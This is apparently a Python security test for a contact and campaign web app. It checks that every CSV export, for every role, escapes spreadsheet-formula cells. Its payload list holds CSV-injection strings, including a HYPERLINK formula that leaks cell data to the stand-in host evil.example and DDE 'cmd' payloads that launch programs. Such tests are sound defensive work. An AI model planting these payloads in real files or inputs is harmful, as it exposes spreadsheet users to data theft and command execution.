"""Exports neutralize formula cells: contacts, campaigns and workshops named like
spreadsheet formulas (uploaded through the real import form, typed into forms, replayed by
sign-in sheets) never reach a CSV download as a live formula. Every CSV response of every
route (every export table, codebook and report, as each role) is checked cell by cell."""

import csv
import io
import re

from sqlalchemy import select

from app.contacts.models import Contact, ContactImport
from app.csvutil import FORMULA_PREFIXES
from app.extensions import db
from app.participation.services import record_event
from app.timeutil import utcnow
from tests.factories import make_contact
from tests.security.helpers import build_url, sign_in
from tests.security.routes import ROUTES
from tests.support import csrf_token

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Ver")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv_cells(text: str) -> list[str]:
    text = text.lstrip("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_every_csv_download_neutralizes_formulas(world, capsys):
    app = world.app
    org = world.org_a
    coordinator = sign_in(app, world.users["coordinator"])

    # 1. the real import form: a formula name imported, a formula phone rejected
    rows = (
        "telefono,nombre,municipio,etiquetas\n"
        + "\n".join(
            f'664 555 {6100 + i},"{f.replace(chr(34), chr(34) * 2)}",'
            f'"{f.replace(chr(34), chr(34) * 2)}",x'
            for i, f in enumerate(FORMULAS)
        )
        + "\n\"=cmd|' /C calc'!A0\",Malo,Tijuana,x\n"
    )
    response = coordinator.post(
        "/contacts/imports/new",
        content_type="multipart/form-data",
        data={
            "csrf_token": csrf_token(coordinator),
            "consent_source": "school",
            "duplicate_rule": "update",
            "consent_basis": "=1+1",
            "file": (io.BytesIO(rows.encode()), "=formulas.csv"),
        },
    )
    assert response.status_code == 302, response.get_data(as_text=True)[:500]
    import_id = int(re.search(r"/imports/(\d+)/preview", response.headers["Location"]).group(1))
    preview = coordinator.get(f"/contacts/imports/{import_id}/preview")
    response = coordinator.post(
        f"/contacts/imports/{import_id}/confirm", data={"csrf_token": csrf_token(coordinator)}
    )
    assert response.status_code == 302 and preview.status_code == 200
    world.run_jobs()
    imported = db.session.scalars(
        select(Contact).where(Contact.organization_id == org.id, Contact.first_name.in_(FORMULAS))
    ).all()
    assert len(imported) >= 4, [c.first_name for c in imported]
    assert db.session.get(ContactImport, import_id).status == "completed"

    # 2. formula names on campaign, message, audience and workshop; events for the reports
    a = world.a
    a.campaign.name, a.message.label, a.audience.name = FORMULAS[0], FORMULAS[1], FORMULAS[3]
    a.workshop.title_es = a.workshop.title_en = a.workshop.venue_name = FORMULAS[2]
    for contact in [
        *imported,
        make_contact(org, first_name=FORMULAS[0], municipality=FORMULAS[1], phone="+526647779876"),
    ]:
        for kind in ("sms_delivered", "reply", "opt_out"):
            record_event(
                organization_id=org.id,
                contact_id=contact.id,
                kind=kind,
                channel="sms",
                occurred_at=utcnow(),
                campaign_id=a.campaign.id,
                message_id=a.message.id,
            )
    db.session.commit()

    # 3. every CSV any route answers, as every role that may ask
    responses = []
    for role in ("evaluator", "coordinator", "admin"):
        client = sign_in(app, world.users[role])
        for endpoint, spec in sorted(ROUTES.items()):
            rule = next(r for r in app.url_map.iter_rules() if r.endpoint == endpoint)
            if "GET" not in rule.methods or spec.permission in ("webhook", "public"):
                continue
            for values in spec.urls(a):
                if endpoint == "contact_imports.report":
                    values = {"import_id": import_id}
                url = build_url(app, endpoint, values)
                response = client.get(url)
                if response.mimetype == "text/csv":
                    responses.append((f"GET {url} as {role}", response.get_data(as_text=True)))
                response.close()
    # the sign-in sheet's rejected rows (a POST download)
    sheet = "telefono,nombre\n" + "\n".join(f'"{f}",x' for f in FORMULAS[:3]) + "\n"
    response = coordinator.post(
        f"/workshops/{a.workshop.id}/attendance/upload",
        content_type="multipart/form-data",
        data={
            "csrf_token": csrf_token(coordinator),
            "file": (io.BytesIO(sheet.encode()), "hoja.csv"),
        },
    )
    token = re.search(r'name="report" value="([^"]+)"', response.get_data(as_text=True)).group(1)
    response = coordinator.post(
        f"/workshops/{a.workshop.id}/attendance/rejected.csv",
        data={"csrf_token": csrf_token(coordinator), "report": token},
    )
    assert response.mimetype == "text/csv"
    responses.append(("POST attendance rejected.csv", response.get_data(as_text=True)))

    failures, cells, neutralized = [], 0, 0
    for what, text in responses:
        for cell in _csv_cells(text):
            cells += 1
            if cell.startswith(FORMULA_PREFIXES):
                failures.append(f"{what}: live formula cell {cell[:40]!r}")
            neutralized += cell.startswith("'") and cell[1:2] in "=+-@\t\r"
    endpoints = {what.split()[1].split("?")[0] for what, _t in responses}
    with capsys.disabled():
        print(
            f"\n[exports] {len(responses)} CSV downloads ({len(endpoints)} distinct paths), "
            f"{cells} cells checked, {neutralized} formula cells neutralized"
        )
    assert not failures, "\n".join(failures[:40])
    assert neutralized >= 3  # the hostile values did reach the files, neutralized
    # the contact import report and the sign-in sheet report carry the original cells
    assert any("rejected-rows" in w or "rejected.csv" in w for w, _t in responses)
